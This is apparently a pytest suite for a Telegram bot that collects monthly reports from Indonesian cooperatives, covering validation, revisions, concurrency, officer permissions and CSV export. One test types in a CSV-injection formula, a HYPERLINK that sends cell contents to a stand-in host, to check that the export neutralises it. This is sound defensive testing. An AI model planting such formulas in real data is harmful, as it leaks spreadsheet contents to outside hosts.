"""The monthly report played through process_update: answers, bad input, review, revisions."""

from __future__ import annotations

import asyncio
import csv
from datetime import timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import func, select

from bot import officers, onboarding
from bot.app import build_application
from bot.core import Core
from handlers.local_api import LocalBotAPI, LocalChat, LocalUser, SentMessage
from storage.models import AuditLog, Report, ReportDraft, ReportRevision
from tests.conftest import Chats

SUKAWANA_CURUG = "36.73.04.1007"


async def linked(
    core: Core, chats: Chats, name: str = "Siti", role: str = "bendahara"
) -> LocalChat:
    code = (
        await onboarding.create_invite(
            core, koperasi_kode=SUKAWANA_CURUG, role=role, created_by="t"
        )
    ).code
    chat = chats.user(name)
    await chat.send(f"/start {code}")
    return chat


async def draft_of(core: Core, chat: LocalChat) -> ReportDraft | None:
    async with core.db.sessions() as session:
        drafts = (await session.scalars(select(ReportDraft))).all()
    from bot.identity import identify

    async with core.db.sessions() as session:
        actor = await identify(session, "telegram", str(chat.user.user_id))
    return next((d for d in drafts if d.person_id == actor.person_id), None)


def texts(messages: list[SentMessage]) -> str:
    return "\n---\n".join(m.text for m in messages)


async def photo(chat: LocalChat) -> list[SentMessage]:
    message = chat.user.message_json(
        photo=[
            {"file_id": "small", "file_unique_id": "s1", "width": 90, "height": 90},
            {"file_id": "big-photo-id", "file_unique_id": "b1", "width": 800, "height": 800},
        ]
    )
    return await chat.process({"update_id": chat.api.next_update_id(), "message": message})


async def play_to_review(chat: LocalChat, **over: Any) -> list[SentMessage]:
    """Answer every question the ordinary way; `over` replaces typed answers."""
    await chat.send("/lapor")
    await chat.press(over.get("status", "Beroperasi rutin"))
    await chat.press("Gerai sembako")
    await chat.press("Selesai")
    await chat.send(over.get("jumlah_anggota", "120"))
    await chat.send("5")
    await chat.send("12,5 jt")
    await chat.press("Ya, benar")
    await chat.send("Rp1.500.000")
    omzet = await chat.send(over.get("omzet", "25000000"))
    if "Apakah sudah benar?" in texts(omzet):
        await chat.press("Ya, benar")
    await chat.send("0")
    await chat.press("Sewa")
    for answer in ("Ya", "Tidak", "Ya", "Tidak"):
        await chat.press(answer)
    await chat.send(over.get("kegiatan", "Membuka gerai sembako & rapat anggota <pertama>."))
    await chat.press("Modal terbatas")
    await chat.press("Kurang pendampingan/konsultasi")
    await chat.press("Selesai")
    await chat.press("Modal terbatas")
    await chat.send("Simpanan anggota belum terkumpul.")
    await chat.press("Pelatihan")
    await chat.press("Selesai")
    await photo(chat)
    return await chat.press("Selesai")


async def test_a_whole_report_is_stored_with_a_receipt(registry_loaded: Core, chats: Chats) -> None:
    chat = await linked(registry_loaded, chats)

    review = await play_to_review(chat)

    summary = review[-1].text
    assert "<b>Ringkasan laporan Oktober 2026</b>" in summary
    assert "<b>Simpanan pokok (kumulatif)</b>: Rp12.500.000" in summary
    assert "<b>Omzet bulan ini</b>: Rp25.000.000" in summary
    assert "<b>Kendala</b>: Modal terbatas, Kurang pendampingan/konsultasi" in summary
    assert "rapat anggota &lt;pertama&gt;." in summary
    assert "<b>Foto</b>: 1 foto" in summary
    assert "Sumber modal" not in summary  # skipped: no new capital
    assert review[-1].button_labels == ["Kirim", "Ubah", "Batal"]

    receipt = await chat.press("Kirim")

    text = texts(receipt)
    assert (
        "Laporan Koperasi Kelurahan Merah Putih Sukawana untuk bulan <b>Oktober 2026</b> "
        "sudah kami terima" in text
    )
    assert "Nomor: <b>LAP/3673041007/2026-10/R1</b>" in text
    assert "Waktu: Jumat, 27 November 2026, pukul 09.00 WIB" in text
    assert "setelah batas waktu" in text  # 27 November is after 10 November
    async with registry_loaded.db.sessions() as session:
        report = await session.scalar(select(Report))
        revision = await session.scalar(select(ReportRevision))
        assert await session.scalar(select(func.count()).select_from(ReportDraft)) == 0
        audit = (await session.scalars(select(AuditLog.action))).all()
    assert report is not None
    assert (report.period, report.current_revision, report.late) == ("2026-10", 1, True)
    assert revision is not None
    assert revision.answers["jumlah_anggota"] == 120
    assert revision.answers["simpanan_pokok_total"] == 12_500_000
    assert revision.answers["kendala"] == ["MODAL", "PENDAMPINGAN"]
    assert revision.answers["kendala_utama"] == "MODAL"
    assert revision.answers["foto"] == ["big-photo-id"]
    assert "modal_sumber" not in revision.answers
    assert revision.submitted_by_name == "Siti Aminah"
    assert "report.submitted" in audit


async def test_bad_answers_are_refused_politely_and_nothing_is_lost(
    registry_loaded: Core, chats: Chats
) -> None:
    chat = await linked(registry_loaded, chats)
    await chat.send("/lapor")
    refused = await chat.send("mungkin")
    assert "Mohon pilih salah satu jawaban" in refused[0].text
    assert "pertanyaan 1 dari" in refused[1].text
    assert refused[1].button_labels[:2] == ["Belum beroperasi", "Persiapan"]
    await chat.send("4")  # a choice typed by its number
    await chat.press("Gerai sembako")
    await chat.press("Selesai")

    cases = [
        # (field being asked, bad answer, the polite explanation, then a good answer)
        ("jumlah_anggota", "seratus", "Mohon ketik angka saja", None),
        ("jumlah_anggota", "25000", "Angka harus antara 0 dan 20000", "120"),
        ("anggota_baru", "500", "tidak boleh lebih dari Jumlah anggota (120)", "5"),
        ("simpanan_pokok_total", "banyak", "Mohon ketik jumlah uang", "12500000"),
        ("simpanan_wajib_bulan", "1.50", "membingungkan", "1500000"),
        ("omzet_bulan", "rugi 2 jt", "tidak boleh negatif", "25000000"),
        ("modal_baru", "1,5", "tanpa sen", "0"),
    ]
    for field, bad, explanation, good in cases:
        before = await draft_of(registry_loaded, chat)
        assert before is not None
        assert before.current_field == field
        replies = await chat.send(bad)
        assert explanation in replies[0].text, (field, replies[0].text)
        assert "<i>" in replies[0].text + replies[1].text  # an example of a valid answer
        assert replies[1].text.startswith("<b>Laporan Oktober 2026</b>")  # asked again
        after = await draft_of(registry_loaded, chat)
        assert after is not None
        assert after.current_field == field
        assert after.answers == before.answers
        if good is not None:
            await chat.send(good)

    await chat.press("Sewa")
    for answer in ("Ya", "Tidak", "Ya", "Tidak"):
        await chat.press(answer)
    short = await chat.send("ok")
    assert "terlalu singkat" in short[0].text
    long = await chat.send("x" * 501)
    assert "terlalu panjang (501 huruf)" in long[0].text
    await chat.send("Rapat anggota tahunan.")
    await chat.press("Selesai")  # no obstacle picked
    assert "paling sedikit 1 pilihan" in api_alert_or_text(chat)
    await chat.press("Lainnya")
    await chat.press("Selesai")
    uraian = await draft_of(registry_loaded, chat)
    assert uraian is not None
    assert uraian.current_field == "kendala_uraian"
    assert "Lewati" not in chat.last_message().button_labels if chat.last_message() else True
    await chat.send("Belum ada juknis.")
    draft = await draft_of(registry_loaded, chat)
    assert draft is not None
    assert draft.answers["kendala"] == ["LAIN"]
    assert draft.answers["kendala_uraian"] == "Belum ada juknis."
    assert draft.answers["jumlah_anggota"] == 120


def api_alert_or_text(chat: LocalChat) -> str:
    message = chat.last_message()
    return message.text if message else ""


async def test_edit_from_the_review_screen(registry_loaded: Core, chats: Chats) -> None:
    chat = await linked(registry_loaded, chats)
    await play_to_review(chat)

    fields = await chat.press("Ubah")
    assert "Jumlah anggota" in fields[0].button_labels
    asked = await chat.press("Jumlah anggota")
    assert "Berapa jumlah anggota" in asked[-1].text
    review = await chat.send("130")
    assert "<b>Jumlah anggota</b>: 130" in review[-1].text
    # Changing the status to "not operating" drops the units; back to operating asks them again.
    await chat.press("Ubah")
    await chat.press("Status usaha")
    after = await chat.press("Belum beroperasi")
    assert "Unit usaha berjalan" not in after[-1].text
    await chat.press("Ubah")
    await chat.press("Status usaha")
    again = await chat.press("Beroperasi rutin")
    assert "Unit usaha apa saja" in again[-1].text
    await chat.press("Logistik")
    await chat.press("Selesai")
    await chat.press("Kirim")
    async with registry_loaded.db.sessions() as session:
        revision = await session.scalar(select(ReportRevision))
    assert revision is not None
    assert revision.answers["jumlah_anggota"] == 130
    assert revision.answers["unit_usaha"] == ["logistik"]


async def test_a_restart_in_the_middle_continues_where_it_stopped(
    registry_loaded: Core, chats: Chats
) -> None:
    chat = await linked(registry_loaded, chats)
    await chat.send("/lapor")
    await chat.press("Persiapan")
    await chat.press("Kantor koperasi")
    await chat.press("Selesai")
    await chat.send("40")

    # A new process: a new Application and Bot API, the same database.
    api = LocalBotAPI()
    app = build_application(registry_loaded, request=api)
    async with app:
        same_user = LocalChat(app, LocalUser(api, chat.user.user_id, "Siti", "Aminah"))
        resumed = await same_user.send("/lapor")
        assert "Melanjutkan draf laporan bulan <b>Oktober 2026</b>" in resumed[0].text
        assert "Berapa anggota baru" in resumed[1].text
        await same_user.send("2")
    draft = await draft_of(registry_loaded, chat)
    assert draft is not None
    assert draft.answers["jumlah_anggota"] == 40
    assert draft.answers["anggota_baru"] == 2
    assert draft.answers["unit_usaha"] == ["kantor"]


async def test_resubmission_by_another_member_creates_a_revision(
    registry_loaded: Core, chats: Chats, clock
) -> None:
    siti = await linked(registry_loaded, chats, "Siti")
    await play_to_review(siti)
    await siti.press("Kirim")
    ahmad = await linked(registry_loaded, chats, "Ahmad", role="ketua")
    clock.set(clock.now() + timedelta(hours=2))

    intro = await ahmad.send("/lapor")

    assert "sudah dikirim oleh Siti Aminah" in intro[0].text
    assert "<b>Jumlah anggota</b>: 120" in intro[1].text
    assert "tersimpan sebagai revisi baru" in intro[1].text
    await ahmad.press("Ubah")
    await ahmad.press("Omzet bulan ini")
    await ahmad.send("30000000")
    receipt = await ahmad.press("Kirim")
    assert "LAP/3673041007/2026-10/R2" in receipt[0].text
    assert "revisi ke-2" in receipt[0].text
    async with registry_loaded.db.sessions() as session:
        report = await session.scalar(select(Report))
        revisions = (
            await session.scalars(select(ReportRevision).order_by(ReportRevision.revision))
        ).all()
    assert report is not None
    assert report.current_revision == 2
    assert [r.submitted_by_name for r in revisions] == ["Siti Aminah", "Ahmad Aminah"]
    assert [r.answers["omzet_bulan"] for r in revisions] == [25_000_000, 30_000_000]


async def test_two_members_filling_at_once_keep_their_own_drafts(
    registry_loaded: Core, chats: Chats
) -> None:
    siti = await linked(registry_loaded, chats, "Siti")
    ahmad = await linked(registry_loaded, chats, "Ahmad", role="ketua")
    await siti.send("/lapor")
    await ahmad.send("/lapor")
    await siti.press("Persiapan")
    await ahmad.press("Beroperasi rutin")
    await siti.press("Kantor koperasi")
    await ahmad.press("Gerai sembako")
    await ahmad.press("Selesai")
    await siti.press("Selesai")
    await siti.send("40")
    await ahmad.send("200")
    s, a = await draft_of(registry_loaded, siti), await draft_of(registry_loaded, ahmad)
    assert s is not None
    assert a is not None
    assert s.answers == {
        "status_operasional": "persiapan",
        "unit_usaha": ["kantor"],
        "jumlah_anggota": 40,
    }
    assert a.answers == {
        "status_operasional": "rutin",
        "unit_usaha": ["sembako"],
        "jumlah_anggota": 200,
    }


async def test_next_month_checks_plausibility_and_offers_last_answers(
    registry_loaded: Core, chats: Chats, clock
) -> None:
    chat = await linked(registry_loaded, chats)
    await play_to_review(chat)
    await chat.press("Kirim")
    clock.set(clock.now() + timedelta(days=10))  # 7 December: November is reported

    first = await chat.send("/lapor")
    assert "laporan bulan <b>November 2026</b>" in first[0].text
    assert "Bulan lalu: Beroperasi rutin" in first[1].text
    assert "Sama seperti bulan lalu" in first[1].button_labels
    await chat.press("Sama seperti bulan lalu")
    await chat.press("Sama seperti bulan lalu")  # units: Gerai sembako again
    fewer = await chat.send("100")
    assert "lebih sedikit daripada bulan lalu (120)" in fewer[0].text
    await chat.press("Ya, benar")
    await chat.send("0")
    await chat.press("Sama seperti bulan lalu")
    await chat.send("1,5 jt")
    await chat.press("Ya, benar")
    jump = await chat.send("300 jt")
    assert "Saya membaca: <b>Rp300.000.000</b>" in jump[0].text
    assert "lebih dari 10 kali omzet bulan lalu (Rp25.000.000)" in jump[0].text
    retype = await chat.press("Ubah")
    assert "Berapa omzet" in retype[0].text
    draft = await draft_of(registry_loaded, chat)
    assert draft is not None
    assert draft.answers["jumlah_anggota"] == 100
    assert draft.answers["unit_usaha"] == ["sembako"]
    assert draft.answers["simpanan_pokok_total"] == 12_500_000
    assert "omzet_bulan" not in draft.answers


async def test_last_months_obstacles_are_asked_about_before_this_months(
    registry_loaded: Core, chats: Chats, clock
) -> None:
    chat = await linked(registry_loaded, chats)
    await play_to_review(chat)  # October: Modal terbatas, Kurang pendampingan
    await chat.press("Kirim")
    clock.set(clock.now() + timedelta(days=10))

    await chat.send("/lapor")
    for _ in range(2):
        await chat.press("Sama seperti bulan lalu")
    await chat.send("120")
    await chat.send("0")
    await chat.press("Sama seperti bulan lalu")
    await chat.send("1500000")
    await chat.send("25000000")
    await chat.send("0")
    for _ in range(5):
        await chat.press("Sama seperti bulan lalu")
    solved = await chat.send("Rapat anggota.")
    question = solved[-1]
    assert "Bulan lalu koperasi melaporkan kendala di bawah ini" in question.text
    assert question.button_labels == [
        "Modal terbatas",
        "Kurang pendampingan/konsultasi",
        "Selesai",
    ]
    await chat.press("Modal terbatas")
    worse = (await chat.press("Selesai"))[-1]
    assert "mana yang <b>makin berat</b>?" in worse.text
    assert worse.button_labels == ["Kurang pendampingan/konsultasi", "Selesai"]
    await chat.press("Kurang pendampingan/konsultasi")
    now = (await chat.press("Selesai"))[-1]
    assert "Kendala apa saja yang dihadapi koperasi?" in now.text
    await chat.press("Kurang pendampingan/konsultasi")
    await chat.press("Selesai")
    await chat.send("Belum ada pendamping.")
    await chat.press("Selesai")  # no help requested
    review = (await chat.press("Selesai"))[-1]  # no photo
    assert "<b>Kendala bulan lalu yang sudah teratasi</b>: Modal terbatas" in review.text
    assert (
        "<b>Kendala bulan lalu yang makin berat</b>: Kurang pendampingan/konsultasi" in review.text
    )
    await chat.press("Kirim")
    async with registry_loaded.db.sessions() as session:
        answers = (
            await session.scalars(
                select(ReportRevision.answers).join(Report).where(Report.period == "2026-11")
            )
        ).one()
    assert answers["kendala_lalu"] == ["MODAL", "PENDAMPINGAN"]
    assert answers["kendala_teratasi"] == ["MODAL"]
    assert answers["kendala_memburuk"] == ["PENDAMPINGAN"]
    assert answers["kendala"] == ["PENDAMPINGAN"]

    # The officers' recap counts what was solved since last month.
    oki = chats.user("Oki", None)
    await officers.add_officer(
        registry_loaded,
        telegram_id=str(oki.user.user_id),
        nama="Oki",
        kecamatan=None,
        can_broadcast=False,
        actor="t",
    )
    recap = texts(await oki.send("/rekap November 2026"))
    assert "Teratasi sejak bulan lalu: Modal terbatas (1)" in recap
    assert "Makin berat: Kurang pendampingan/konsultasi (1)" in recap


async def test_batal_asks_then_discards_and_stale_drafts_expire(
    registry_loaded: Core, chats: Chats, clock
) -> None:
    chat = await linked(registry_loaded, chats)
    assert "Tidak ada draf" in (await chat.send("/batal"))[0].text
    await chat.send("/lapor")
    await chat.press("Persiapan")
    confirm = await chat.send("/batal")
    assert confirm[0].button_labels == ["Ya, hapus draf", "Tidak, lanjutkan"]
    kept = await chat.press("Tidak, lanjutkan")
    assert "draf tetap disimpan" in kept[0].text
    assert await draft_of(registry_loaded, chat) is not None
    await chat.send("/batal")
    gone = await chat.press("Ya, hapus draf")
    assert "sudah dihapus" in gone[0].text
    assert await draft_of(registry_loaded, chat) is None

    await chat.send("/lapor")
    await chat.press("Persiapan")
    clock.set(clock.now() + timedelta(days=registry_loaded.settings.draft_ttl_days, minutes=1))
    expired = await chat.send("Kantor koperasi")
    assert "tidak dilanjutkan selama 14 hari, sehingga sudah dihapus" in expired[0].text
    assert await draft_of(registry_loaded, chat) is None


async def test_a_stale_draft_is_deleted_with_a_notice_through_the_outbox(
    registry_loaded: Core, chats: Chats, clock, app
) -> None:
    from bot.app import send_due_with

    chat = await linked(registry_loaded, chats)
    await chat.send("/lapor")
    await chat.press("Persiapan")
    service = app.bot_data["reports"]
    assert await service.expire_drafts() == 0
    clock.set(clock.now() + timedelta(days=registry_loaded.settings.draft_ttl_days, minutes=1))
    assert await service.expire_drafts() == 1
    assert await service.expire_drafts() == 0
    assert await draft_of(registry_loaded, chat) is None
    stats = await send_due_with(registry_loaded, app.bot)
    assert stats.sent == 1
    last = chat.last_message()
    assert last is not None
    assert "Draf laporan bulan Oktober 2026 tidak dilanjutkan selama 14 hari" in last.text


async def test_choosing_another_open_month_and_refusing_closed_ones(
    registry_loaded: Core, chats: Chats
) -> None:
    chat = await linked(registry_loaded, chats)
    september = await chat.send("/lapor September 2026")
    assert "laporan bulan <b>September 2026</b>" in september[0].text
    await chat.send("/batal")
    await chat.press("Ya, hapus draf")
    closed = await chat.send("/lapor Januari 2026")
    assert "tidak dapat diisi" in closed[0].text
    assert "Oktober 2026, September 2026, Agustus 2026" in closed[0].text
    unknown = await chat.send("/lapor kapan-kapan")
    assert "tidak mengenali bulan" in unknown[0].text


async def test_people_who_cannot_report_are_told_why(registry_loaded: Core, chats: Chats) -> None:
    stranger = await chats.user().send("/lapor")
    assert "hanya dapat diisi oleh pengurus koperasi yang sudah terhubung" in stranger[0].text
    await officers.add_officer(
        registry_loaded,
        telegram_id="31",
        nama="Rina",
        kecamatan=None,
        can_broadcast=False,
        actor="t",
    )
    officer = await chats.user("Rina", user_id=31).send("/lapor")
    assert "Sebagai petugas" in officer[0].text
    pengawas = await linked(registry_loaded, chats, "Pak Lurah", role="pengawas")
    refused = await pengawas.send("/lapor")
    assert "Sebagai Pengawas" in refused[0].text
    group = chats.user("Siti", chat_id=-100555)
    assert "percakapan pribadi" in (await group.send("/lapor"))[0].text
    async with registry_loaded.db.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(ReportDraft)) == 0


async def test_old_buttons_and_repeated_messages_change_nothing(
    registry_loaded: Core, chats: Chats, api: LocalBotAPI
) -> None:
    chat = await linked(registry_loaded, chats)
    first = await chat.send("/lapor")
    status_question = first[-1]
    old_data = status_question.button("Belum beroperasi")["callback_data"]
    await chat.press("Persiapan", status_question)
    await chat.press("Selesai")  # no unit picked: refused
    await chat.press("Kantor koperasi")
    await chat.press("Selesai")
    # A button of a question already answered (e.g. pressed on another device).
    await chat.process(chat.user.callback_update(status_question, old_data))
    assert api.calls[-1].method == "answerCallbackQuery"
    assert api.calls[-1].params["text"] == "Tombol ini sudah tidak berlaku."
    update = chat.user.text_update("77")
    await chat.process(update)
    await chat.process(update)  # the same update delivered again
    draft = await draft_of(registry_loaded, chat)
    assert draft is not None
    assert draft.answers["status_operasional"] == "persiapan"
    assert draft.answers["jumlah_anggota"] == 77
    assert draft.current_field == "anggota_baru"


async def test_export_csv_has_a_row_per_cooperative(
    registry_loaded: Core, chats: Chats, tmp_path: Path
) -> None:
    from bot.export import write_csv
    from bot.periods import Period

    chat = await linked(registry_loaded, chats)
    await play_to_review(chat)
    await chat.press("Kirim")
    out = tmp_path / "oktober.csv"

    assert await write_csv(registry_loaded, Period(2026, 10), out) == 67

    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 67
    reported = [r for r in rows if r["revisi"]]
    assert len(reported) == 1
    row = reported[0]
    assert row["kode_wilayah"] == SUKAWANA_CURUG
    assert row["kecamatan"] == "Curug"
    assert row["simpanan_pokok_total"] == "12500000"
    assert row["kendala"] == "Modal terbatas; Kurang pendampingan/konsultasi"
    assert row["kendala_utama"] == "Modal terbatas"
    assert row["dikirim_pada"] == "2026-11-27T09:00:00+07:00"
    assert row["terlambat"] == "ya"
    empty = next(r for r in rows if r["kode_wilayah"] == "36.73.01.1008")
    assert empty["status_operasional"] == ""
    assert empty["nama_koperasi"] == "Koperasi Kelurahan Merah Putih Sukawana"


async def test_export_csv_keeps_typed_formulas_as_text(
    registry_loaded: Core, chats: Chats, tmp_path: Path
) -> None:
    """A text answer that a spreadsheet would run as a formula (CSV injection) is exported with
    a leading apostrophe, so it shows as typed; numbers stay numbers."""
    from bot.export import write_csv
    from bot.periods import Period

    chat = await linked(registry_loaded, chats)
    typed = '=HYPERLINK("http://contoh.test/?"&A1,"Klik")'
    await play_to_review(chat, kegiatan=typed)
    await chat.press("Kirim")
    out = tmp_path / "oktober.csv"
    await write_csv(registry_loaded, Period(2026, 10), out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = [r for r in csv.DictReader(handle) if r["revisi"]]
    assert row["kegiatan"] == "'" + typed
    assert row["jumlah_anggota"] == "120"


async def test_two_members_pressing_kirim_at_the_same_moment_both_count(
    registry_loaded: Core, chats: Chats
) -> None:
    siti = await linked(registry_loaded, chats, "Siti")
    ahmad = await linked(registry_loaded, chats, "Ahmad", role="ketua")
    await play_to_review(siti)
    await play_to_review(ahmad)
    updates = []
    for chat in (siti, ahmad):
        review = chat.last_with_buttons()
        assert review is not None
        updates.append(chat.user.callback_update(review, review.button("Kirim")["callback_data"]))

    replies = await asyncio.gather(siti.process(updates[0]), ahmad.process(updates[1]))

    sent = "\n".join(m.text for r in replies for m in r)
    assert "/2026-10/R1</b>" in sent
    assert "/2026-10/R2</b>" in sent
    assert "gangguan" not in sent
    async with registry_loaded.db.sessions() as session:
        revisions = (await session.scalars(select(ReportRevision.revision))).all()
        report = await session.scalar(select(Report))
    assert sorted(revisions) == [1, 2]
    assert report is not None
    assert report.current_revision == 2


async def test_an_officer_marks_an_obstacle_handled_and_the_board_sees_the_note(
    registry_loaded: Core, chats: Chats, clock
) -> None:
    chat = await linked(registry_loaded, chats)
    await play_to_review(chat)
    await chat.press("Kirim")

    async def officer(name: str, kecamatan: str | None) -> LocalChat:
        officer_chat = chats.user(name, None)
        await officers.add_officer(
            registry_loaded,
            telegram_id=str(officer_chat.user.user_id),
            nama=name,
            kecamatan=kecamatan,
            can_broadcast=False,
            actor="t",
        )
        return officer_chat

    cici = await officer("Cici", "Curug")
    choices = await cici.send("/tangani sukawana")  # only Curug's Sukawana is in her scope
    assert "menurut laporan terakhir (Oktober 2026)" in choices[0].text
    assert choices[0].button_labels == ["Modal terbatas", "Kurang pendampingan/konsultasi"]
    asked = await cici.press("Modal terbatas")
    assert "Mohon ketik <b>catatan</b>" in asked[0].text
    assert "ditangani" not in texts(await cici.send("ok"))  # too short: asked again
    done = await cici.send("Sudah diajukan ke program modal bergulir Dinas.")
    assert "tercatat sedang ditangani" in done[0].text

    # Another kecamatan's officer cannot see or forge her way into Curug's cooperative.
    dedi = await officer("Dedi", "Serang")
    serang = texts(await dedi.send("/tangani sukawana"))
    assert "belum pernah melapor" in serang
    forged = next(b for b in choices[0].buttons[0])["callback_data"]
    start = len(dedi.api.calls)
    await dedi.process(dedi.user.callback_update(choices[0], forged))
    (alert,) = [c for c in dedi.api.calls[start:] if c.method == "answerCallbackQuery"]
    assert alert.params["text"] == "Tombol ini sudah tidak berlaku."
    stranger = texts(await chats.user("Asing", None).send("/tangani sukawana"))
    assert "hanya untuk petugas" in stranger

    clock.set(clock.now() + timedelta(days=10))
    intro = texts(await chat.send("/lapor"))
    assert "<b>Catatan dari Pemerintah Kota</b> tentang kendala bulan lalu:" in intro
    assert (
        "• Modal terbatas — sedang ditangani: Sudah diajukan ke program modal bergulir Dinas. "
        "(Cici, 27/11/2026)" in intro
    )
